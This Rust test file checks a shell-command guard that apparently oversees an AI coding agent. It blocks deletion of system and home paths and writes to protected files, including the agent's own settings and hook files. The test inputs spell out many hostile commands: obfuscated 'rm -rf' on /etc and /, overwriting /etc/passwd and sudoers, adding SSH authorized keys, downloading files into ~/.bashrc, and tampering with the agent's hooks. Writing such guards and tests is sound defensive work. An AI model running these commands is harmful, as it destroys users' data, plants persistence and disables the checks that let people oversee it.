use crate::model::guard::world::Context;
use crate::model::guard::world::made_up::MadeUp;
use crate::model::guard::{judge_shell, judge_write};

/// The rules that find something in a line, or `-`.
fn found(text: &str, context: &Context<'_>) -> String {
    let verdict = judge_shell(text, context);
    let mut rules: Vec<&str> = verdict.findings.iter().map(|(_, f)| f.rule).collect();
    rules.sort_unstable();
    rules.dedup();
    if rules.is_empty() { "-".to_owned() } else { rules.join(" ") }
}

/// Every line blocks by this rule, perhaps by others too; `-` for none.
fn check(context: &Context<'_>, rule: &str, lines: &[&str]) {
    let wrong: Vec<String> = lines
        .iter()
        .map(|line| (line, found(line, context)))
        .filter(|(_, got)| if rule == "-" { got != "-" } else { !got.split(' ').any(|r| r == rule) })
        .map(|(line, got)| format!("{line}: {got}"))
        .collect();
    assert!(wrong.is_empty(), "not {rule}:\n{}", wrong.join("\n"));
}

#[test]
fn options_of_a_deletion_in_any_order_and_spelling() {
    let world = MadeUp::new();
    check(
        &world.context(),
        "fs.delete-system",
        &[
            "rm -rf /etc",
            "rm -fr /etc",
            "rm -r -f /etc",
            "rm /etc -rf",
            "rm /etc -r",
            "rm -R /etc",
            "rm -Rv /etc",
            "rm -vRfi /etc",
            "rm --recursive /etc",
            "rm --recursive --force /etc",
            "rm --recursi /etc",
            "rm --r /etc",
            "rm -r -- /etc",
            "rm -rf -- build /etc",
            "rm -rf build /etc dist",
            "rm --preserve-root -rf /etc",
            "rm --no-preserve-root -rf /",
            "rm --one-file-system -rf /etc",
            "rm --interactive=never -r /etc",
            "rm -rf /etc/ /usr/",
            "\\rm -rf /etc",
            "r\"m\" -rf /etc",
            "'rm' '-rf' '/etc'",
            "/usr/bin/rm -rf /etc",
            "/bin/../bin/rm -rf /etc",
            "../../../bin/rm -rf /etc",
            "/b?n/rm -rf /etc",
            "/bin/r? -rf /etc",
            "$RM -rf /etc",
            "$(which rm) -rf /etc",
            "rm $FLAGS /etc/nginx",
            "F=-rf; rm $F /etc",
            "rm -$F /etc",
            "busybox rm -rf /etc",
            "sudo rm -rf /etc",
            "env -i rm -rf /etc",
            "xargs rm -rf /etc < list",
            "find /etc -exec rm -rf {} +",
            "find /etc -type f -exec rm {} \\;",
            "echo /etc | xargs rm -rf",
            "for d in /etc /usr; do rm -rf \"$d\"; done",
            "(cd /etc && rm -rf nginx)",
            "bash -c 'rm -rf /etc'",
        ],
    );
}

#[test]
fn paths_in_any_spelling() {
    let world = MadeUp::new();
    let context = world.context();
    check(
        &context,
        "fs.delete-system",
        &[
            "rm -rf ///",
            "rm -rf /.",
            "rm -rf /..",
            "rm -rf /*",
            "rm -rf /etc/../usr",
            "rm -rf ../../../etc",
            "rm -rf ./../../../usr/lib",
            "rm -rf /tmp/../../etc",
            "rm -rf /var/tmp/../lib",
            "rm -rf /usr/*",
            "rm -rf /*/nginx",
            "rm -rf /{etc,tmp}/x",
            "rm -rf /et[c]",
            "rm -rf /?tc",
            "rm -rf /u*r/share",
            "rm -rf /lib64",
            "rm -rf /lib32/x",
            "rm -rf /home/v",
            "rm -rf ~v",
            "rm -rf ~v/x/y/z",
            "rm -rf ~root/x",
            "rm -rf /root/.cache/x",
            "rm -rf /mnt /tmp/x",
            "rm -rf /dev",
            "rm -rf /proc/1/root/etc",
            "rm -rf /proc/self/cwd/../../../etc",
            "rm -rf /proc/1/cwd/etc",
            "cd /proc/self/root && rm -rf etc",
            "pushd /usr; rm -rf lib; popd",
            "cd /; cd usr; rm -rf lib",
            "d=/etc; rm -rf $d/nginx",
            "rm -rf \"${X:-/etc}\"",
        ],
    );
    check(
        &context,
        "-",
        &[
            "rm -rf /tmp/x/../y",
            "rm -rf /var/tmp/*",
            "rm -rf /srv/app/build",
            "rm -rf /mnt/data/x",
            "rm -rf /tmp/etc",
            "rm -rf usr/share",
            "rm -rf ./lib/*",
            "rm -rf /home/u/project/etc",
            "rm -rf build/../dist",
            "rm -rf \"${DIR:-build}\"",
            "d=$(mktemp -d); rm -rf \"$d\"",
            "d=$(mktemp -d); rm -rf \"$d\"/*",
            "rm -rf /tmp/a* /tmp/[bc]?",
            "rm -rf -- -r /tmp/etc",
            "rm -rf '/tmp/*' './*'",
            "rm -rf /v*/tmp/x",
            "rm -rf /dev/shm/x",
            "rm -f ~/.lesshst",
            "rm -rf '*'",
            "rm -r ./.cache",
            "rm -rf /build",
        ],
    );
}

#[test]
fn what_is_unknown_may_be_empty() {
    let world = MadeUp::new();
    let context = world.context();
    check(
        &context,
        "fs.delete-unresolved",
        &[
            "rm -rf $X/*",
            "rm -rf \"${X}\"/",
            "rm -rf \"$X\"/.",
            "rm -rf \"$X\"/..",
            "rm -rf \"$X\"/usr",
            "rm -rf \"$X$Y\"/*",
            "rm -rf \"$X\"//*",
            "rm -rf \"$(frob)\"/*",
            "rm -rf `frob`/*",
            "rm -rf \"$X\"/[a-z]*",
            "rm -rf \"$X\"/{etc,usr}",
            "rm -rf ~/\"$X\"",
            "rm -rf \"$HOME/$X\"",
            "rm -rf ~/Documents/\"$X\"",
            "rm -rf /home/\"$U\"/",
            "cd $X && rm -rf ./*",
            "cd \"$X\"; rm -rf .* *",
            "pushd \"$X\" && rm -rf *",
            "(cd \"$X\" && rm -rf .)",
            "find \"$X\"/ -type f -delete",
            "mv \"$X\"/etc /tmp",
            "rm -rf /tmp/\"$X\"/../../etc",
        ],
    );
    check(
        &context,
        "fs.delete-system",
        &["rm -rf /etc/\"$X\"", "rm -rf /usr/lib/$X/*", "rm /var/lib/\"$X\"", "rm -rf /home/v/$X"],
    );
    check(
        &context,
        "-",
        &[
            "rm -rf \"$X\"",
            "rm -rf $X $Y",
            "rm -rf \"$X$Y\"",
            "rm -rf \"$X\"/build/*",
            "rm -rf \"$X\"/node_modules",
            "rm -rf \"$X\"-old",
            "rm -rf /tmp/$X/$Y",
            "rm -rf /tmp/\"$X\"/*",
            "rm -rf \"./$X\"",
            "rm -rf build/\"$X\"/*",
            "rm -rf ~/project/\"$X\"",
            "rm -rf ~/.cache/$X/y",
            "rm -f \"$A/$B\"",
            "rm \"$A\"/$B.o",
            "rm -f \"$X\"/*.o",
            "cd \"$X\" && rm -rf dist node_modules",
            "cd \"$X\" && rm -f *.o",
            "echo x > \"$A/$B\"",
            "echo x > $X",
            "cp a \"$A/$B\"",
            "echo x > \"$ROOT/etc/hostname\"",
        ],
    );
}

#[test]
fn links_are_followed_where_the_kernel_follows_them() {
    let mut world = MadeUp::new();
    for (link, target) in [
        ("/home/u/project/sys", "/etc"),
        ("/home/u/project/up", ".."),
        ("/home/u/project/rc", "/home/u/.bashrc"),
        ("/home/u/project/loop", "loop"),
        ("/home/u/project/disk", "/dev/sda"),
        ("/home/u/project/far", "sys/ssl"),
        ("/home/u/project/data", "/tmp/data"),
        ("/bin", "usr/bin"),
    ] {
        world.links.insert(link.into(), target.into());
    }
    let context = world.context();
    check(
        &context,
        "fs.delete-system",
        &[
            "rm -rf sys/",
            "rm -rf sys/nginx",
            "rm -rf sys/*",
            "rm -rf ./sys/../usr",
            "rm -rf far/certs",
            "rm -rf up/../v/x",
            "find sys/ -delete",
            "rm sys/hosts",
            "echo x > sys/hosts",
            "ln -s /usr /tmp/l && rm -rf /tmp/l/lib",
            "ln -s / r; rm -rf r/etc",
        ],
    );
    check(&context, "fs.delete-home", &["rm -rf up/Documents", "mv up/Documents /tmp"]);
    check(&context, "file.protected-write", &["echo x >> rc", "tee rc < x", "cp x rc", "cp x up/.bashrc"]);
    check(&context, "dev.raw-write", &["cp x disk", "echo x > disk"]);
    check(
        &context,
        "-",
        &[
            "rm sys",
            "rm -rf sys",
            "rm -rf rc",
            "mv sys old",
            "rm -rf loop/x",
            "rm -rf data/*",
            "cat rc",
            "unlink up",
        ],
    );
}

#[test]
fn a_session_may_work_below_its_own_directory() {
    let world = MadeUp::new();
    let at = |cwd: &str, project: Option<&str>, home: &str| Context {
        cwd: cwd.into(),
        project_dir: project.map(Into::into),
        home: home.into(),
        ..world.context()
    };
    let opt = at("/opt/app", None, "/home/u");
    check(
        &opt,
        "-",
        &["rm -rf build", "rm -rf /opt/app/*", "rm -rf \"$PWD/$X\"", "chmod 777 out", "echo x > log"],
    );
    check(&opt, "fs.delete-system", &["rm -rf /opt/app", "rm -rf ../other", "rm -rf ../app", "rm -rf /opt"]);
    let www = at("/var/www/site", Some("/var/www/site"), "/home/u");
    check(&www, "-", &["rm -rf cache/*", "mv a b", "find . -name '*.o' -delete", "git clean -fdx"]);
    // A directory of the system itself frees nothing.
    for cwd in ["/", "/etc", "/etc/nginx", "/usr/lib", "/usr/lib/x", "/var/lib", "/opt", "/home/u"] {
        let context = at(cwd, None, "/home/u");
        check(&context, "fs.delete-system", &["rm -rf /etc/nginx/x", "rm -rf /usr/lib/x/y", "rm -rf /var/lib/x"]);
        check(&context, "fs.delete-home", &["rm -rf ~/Documents", "rm -rf ~/*"]);
    }
    // `cd` in the line is not the session's directory.
    check(&world.context(), "fs.delete-system", &["cd /opt/app && rm -rf build"]);
    // Root's home is a home.
    let root = at("/root/work/p", Some("/root/work/p"), "/root");
    check(&root, "-", &["rm -rf build", "rm -rf ~/work/q/x", "rm -rf /root/.cache/x", "echo x > ~/work/log"]);
    check(&root, "fs.delete-home", &["rm -rf ~", "rm -rf /root/.config", "rm -rf /root/*"]);
    check(&root, "fs.delete-system", &["rm -rf /home/u/x/y", "rm -rf /etc/x"]);
    // A home in an unusual place.
    let tmp = at("/tmp/h/p", None, "/tmp/h");
    check(&tmp, "fs.delete-home", &["rm -rf ~", "rm -rf ~/.config", "rm -rf /tmp/h/*"]);
    check(&tmp, "-", &["rm -rf /tmp/x", "rm -rf /tmp/h/p/build"]);
}

#[test]
fn the_operators_paths_and_exceptions() {
    let mut world = MadeUp::new();
    world.policy.paths = vec!["/data/precious".into(), "/home/u/work/keep".into()];
    world.policy.exceptions = vec!["/opt/scratch".into(), "/home/u/junk".into()];
    let context = world.context();
    check(
        &context,
        "fs.delete-system",
        &[
            "rm -rf /data",
            "rm -rf /data/precious",
            "rm -rf /data/precious/a/b",
            "rm -rf ~/work/keep/x",
            "rm /data/precious/x",
            "rm -rf /opt/scratch",
            "rm -rf /data/pre*",
            "mv /data/precious /tmp",
        ],
    );
    check(&context, "fs.delete-home", &["rm -rf ~/junk"]);
    check(&context, "-", &["rm -rf /opt/scratch/x", "rm -rf ~/junk/*", "rm -rf /data/x", "rm -rf ~/work/x"]);
}

#[test]
fn elsewhere_the_same_paths_are_protected() {
    let world = MadeUp::new();
    let context = world.context();
    check(
        &context,
        "fs.delete-system",
        &["ssh host rm -rf /etc", "docker exec c rm -rf /var/lib/x", "ssh host 'cd / && rm -rf usr'"],
    );
    check(&context, "fs.delete-home", &["ssh host 'rm -rf ~'", "ssh host rm -rf '~/*'"]);
    check(
        &context,
        "file.protected-write",
        &["scp k host:.ssh/authorized_keys", "scp x host:~/.bashrc", "rsync x host:/etc/sudoers.d/x"],
    );
    check(
        &context,
        "-",
        &[
            "ssh host rm -rf /tmp/x",
            "ssh host rm -rf app/build",
            "docker exec c rm -rf /app/build",
            "scp x host:",
            "scp x host:/srv/app/x",
            "scp host:.bashrc ./bashrc",
            "rsync -a host:/etc/ ./etc/",
            "rsync -a --delete dist/ host:app/dist/",
        ],
    );
}

#[test]
fn other_programs_that_delete() {
    let world = MadeUp::new();
    let context = world.context();
    check(
        &context,
        "fs.delete-system",
        &[
            "find /etc -delete",
            "find -L /etc /tmp -type f -delete",
            "find / -name x -delete",
            "find /var -delete -name x",
            "find /etc ! -name keep -delete",
            "find /usr -name a -prune -o -delete",
            "rsync -a --delete-excluded empty/ /usr/",
            "rsync -r --del empty/ /usr",
            "mv -t /tmp /etc/nginx",
            "mv --target-directory=/tmp /etc",
            "mv /usr /tmp/usr",
            "shred -u -n 3 /etc/passwd",
            "truncate --size=0 /etc/passwd",
            "unlink /etc/passwd",
            "gio trash /etc/nginx",
            "> /etc/passwd",
            ": >| /etc/passwd",
            "cat /dev/null > /etc/passwd",
            "tar -cf x.tar --remove-files /etc/nginx",
            "git -C /etc/nginx clean -fd",
            "gzip /var/log/syslog",
        ],
    );
    check(
        &context,
        "-",
        &[
            "find . -delete -name x",
            "find . -type d -name __pycache__ -exec rm -rf {} +",
            "find build -mindepth 1 -delete",
            "find ~/.cache -mtime +30 -delete",
            "find /tmp/x -delete",
            "find / -name x 2>/dev/null",
            "find /etc -newer x -print0 | xargs -0 ls",
            "mv a b c dir/",
            "mv dist /tmp/dist",
            "mv ./Documents x",
            "mv /tmp/x.txt ~/project/",
            "rsync -a --delete a/ b/",
            "rsync -a --remove-source-files in/ out/",
            "shred -u secret.txt",
            "truncate -s 0 log.txt",
            "git clean -ndx",
            "git rm -r --cached .claude",
            "git rm -rf src",
            "gzip -k /etc/hosts",
            "gzip out.log",
            "docker rm -f c",
            "cargo rm serde",
            "npm rm left-pad",
            "terraform -chdir=etc plan",
            "rmdir ~/old",
            "rm -d ~/old",
            "ls > ~/list.txt",
            "trash-put build",
        ],
    );
}

#[test]
fn protected_files_are_written_in_many_ways() {
    let world = MadeUp::new();
    let context = world.context();
    check(
        &context,
        "file.protected-write",
        &[
            "cat > ~/.bashrc <<'E'\nx\nE",
            "echo x | tee -a ~/.profile ~/x",
            "exec >> ~/.bashrc",
            "echo x >& ~/.bashrc",
            "cd && echo x >> .bashrc",
            "cp a ~/.ssh/authorized_keys",
            "cp --target-directory=.claude settings.json",
            "cp -r x .claude",
            "cp -T x ~/.zshrc",
            "install -Dm644 x ~/.config/fish/config.fish",
            "install -t .claude/hooks x.sh",
            "ln ~/.bashrc_evil ~/.bashrc",
            "ln -st .claude/hooks /tmp/x",
            "ln -s /tmp/hooks .claude/hooks",
            "mv -f x ~/.bash_profile",
            "mv ~/.bashrc ~/.bashrc.old",
            "mv .claude .claude.old",
            "rm -rf .*",
            "rm -rf ./.cl*",
            "rm -f .claude/settings.json",
            "rm -rf .claude/hooks/*",
            "find .claude -name 'settings*' -delete",
            "find . -path './.claude/*' -delete",
            "find ~ -name .bashrc -delete",
            "git mv .claude/settings.json x.json",
            "git checkout main .claude/hooks",
            "git -C ~ checkout -- .bashrc",
            "git clean -fdx .claude",
            "sed --in-pl s/a/b/ ~/.bashrc",
            "sed -i -f x.sed ~/.bashrc",
            "sed -i '' -e s/a/b/ ~/.bashrc",
            "perl -i -ne print ~/.bashrc",
            "ruby -i -pe 1 ~/.bashrc",
            "gawk -i inplace '{print}' ~/.bashrc",
            "curl -sSLo ~/.bashrc https://e.org/x",
            "curl --output-dir .claude -O https://e.org/settings.json",
            "curl --output=.claude/settings.json https://e.org/x",
            "wget -qO .claude/settings.json https://e.org/x",
            "cd ~ && wget https://e.org/.bashrc",
            "aria2c -d ~/.ssh -o authorized_keys https://e.org/x",
            "tar -x -f a.tar -C ~/.ssh",
            "tar xf a.tar .claude/settings.json",
            "unzip a.zip .claude/settings.json",
            "cpio -iD ~ < x",
            "7z x a.7z -o.claude",
            "patch -d ~ .bashrc x.diff",
            "patch -p1 <<'E'\n--- a/.claude/settings.json\n+++ b/.claude/settings.json\n@@ -1 +1 @@\n-a\n+b\nE",
            "ex -sc wq ~/.bashrc",
            "vim -c wq ~/.bashrc",
            "touch ~/.zlogin",
            "chmod 000 .claude/hooks",
            "chmod 666 /etc/sudoers",
            "chown u:u /etc/sudoers",
            "chattr +i .claude/settings.json",
            "setfacl -m u:v:rw ~/.bashrc",
            "tee /etc/sudoers.d/x < x",
            "visudo -f /etc/sudoers.d/x",
            "sudo cp x /etc/sudoers.d/",
            "sudo install -m 644 x.service /etc/systemd/system/",
            "rm -rf /etc/systemd",
            "echo x > ~/.claude/settings.json",
            "echo x > ~v/.ssh/authorized_keys",
            "echo x > /root/.bashrc",
            "echo x > /tmp/clone/.claude/settings.json",
            "echo x > \"$DIR/.claude/settings.json\"",
            "cd \"$DIR\" && echo x > .claude/settings.json",
            "echo x > ~/.claude-accounts/a/settings.local.json",
            "echo x > ~/.claude-accounts/a/hooks/x",
            "rm -rf ~/.claude-accounts/a",
            "echo x > /srv/cf/state/x/y",
            "echo x > /etc/claude-code/managed-settings.json",
            "split -b 1 x ~/.bash",
            "openssl enc -d -in x -out ~/.bashrc",
            "gpg -o ~/.bashrc -d x",
            "bash -c 'echo x >> ~/.bashrc'",
            "prettier --write .claude/settings.json",
            "echo '+ +' >> ~/.ssh/authorized_keys2",
        ],
    );
    check(
        &context,
        "-",
        &[
            "echo x > ./.bashrc",
            "echo x > .claude/settings.md",
            "echo x > .claude/agents/x.md",
            "cp x.md .claude/agents",
            "cp settings.json config/",
            "cp -r src .claude/skills/x/",
            "mkdir -p ~/.ssh .claude/commands",
            "mkdir -m 700 -p ~/.ssh",
            "rm -rf .claude/agents",
            "rm .claude/commands/x.md",
            "mv .claude/commands/a.md .claude/commands/b.md",
            "git checkout -b .claude-fix",
            "git checkout .",
            "git restore .",
            "git stash -- .claude/settings.json",
            "jq . .claude/settings.json > /tmp/x.json",
            "cat < ~/.bashrc",
            "cat ~/.bashrc | tee copy",
            "scp ~/.bashrc host:backup/",
            "rsync -a ~/.ssh/config /tmp/",
            "ln -s ~/.bashrc ./rc",
            "tar -czf x.tgz -C ~ .bashrc",
            "tar -tf x.tar",
            "tar -xf x.tar -O .claude/settings.json",
            "tar xf x.tar src/lib.rs",
            "unzip -l x.zip -d .claude",
            "curl -O https://e.org/x.tgz",
            "wget -P vendor https://e.org/x",
            "sed -n '/x/p' .claude/settings.json",
            "perl -pe s/a/b/ ~/.bashrc",
            "awk 1 ~/.bashrc",
            "ssh-keygen -t ed25519 -f ~/.ssh/id_new -N ''",
            "chmod +x hooks/x.sh",
            "chmod -R u+w build",
            "echo 'see ~/.bashrc' >> notes.md",
            "grep -c . /etc/sudoers",
            "ls ~/.claude/hooks",
            "vim -R ~/.bashrc -c q",
            "cat > config.fish <<'E'\n~/.bashrc\nE",
            "git commit -m 'echo x >> ~/.bashrc'",
            "touch ~/.bash_history",
            "cp * ~/",
            "sort ~/.bashrc -o out",
            "echo x > ~/.config/app/config.toml",
        ],
    );
}

#[test]
fn tools_that_write() {
    let mut world = MadeUp::new();
    world.links.insert("/home/u/project/rc".into(), "/home/u/.bashrc".into());
    let context = world.context();
    for path in [
        ".claude/settings.json",
        "/home/u/project/.claude/settings.local.json",
        "~/.bashrc",
        "../.bashrc",
        "//home//u/./.zshrc",
        "src/../.claude/hooks/x",
        "rc",
        "/proc/self/root/etc/sudoers",
        "/proc/self/cwd/.claude/settings.json",
        "/dev/sda",
        "/etc/systemd/system/x.service",
        "/home/u/.config/claude-failover/config.yaml",
    ] {
        assert!(judge_write(path, &context).blocks(), "{path}");
    }
    for path in [
        "src/settings.json",
        "fixtures/.bashrc",
        ".claude/commands/x.md",
        "/etc/hosts",
        "~/notes.md",
        "/dev/null",
        "*/settings.json",
        "$HOME/.bashrc",
        "",
    ] {
        assert!(!judge_write(path, &context).blocks(), "{path}");
    }
}

#[test]
fn what_is_said_is_short_and_names_the_path() {
    let world = MadeUp::new();
    let context = world.context();
    for (line, want) in [
        ("rm -rf /etc/nginx", "rm would delete /etc/nginx, which belongs to the system"),
        ("cd / && rm -rf etc", "rm would delete /etc, which belongs to the system (read in /)"),
        (
            "rm -rf \"$X\"/*",
            "rm would delete /*, the root of the file system, if what is not known in it is empty",
        ),
        ("echo x >> ~/.bashrc", "echo would write /home/u/.bashrc, a start file of a shell"),
        ("> ~/.bashrc", "a redirection would write /home/u/.bashrc, a start file of a shell"),
    ] {
        let verdict = judge_shell(line, &context);
        let said: Vec<&str> = verdict.findings.iter().map(|(_, f)| f.reading.as_str()).collect();
        assert!(said.contains(&want), "{line}: {said:?}");
    }
    let long = format!("rm -rf /etc/{}", "x".repeat(5000));
    assert!(judge_shell(&long, &context).findings.iter().all(|(_, f)| f.reading.len() < 400));
}

#[test]
fn hostile_paths_are_judged_in_time() {
    let world = MadeUp::new();
    let context = world.context();
    for line in [
        format!("rm -rf {}", "a/".repeat(20_000)),
        format!("rm -rf {}etc", "../".repeat(15_000)),
        format!("rm -rf /{}", "*a".repeat(15_000)),
        format!("rm -rf {}", "x ".repeat(3_000)),
        format!("cp {} .claude/", "x ".repeat(3_000)),
        format!("rm -rf /{}", "*".repeat(20_000)),
    ] {
        let _ = judge_shell(&line, &context);
    }
}
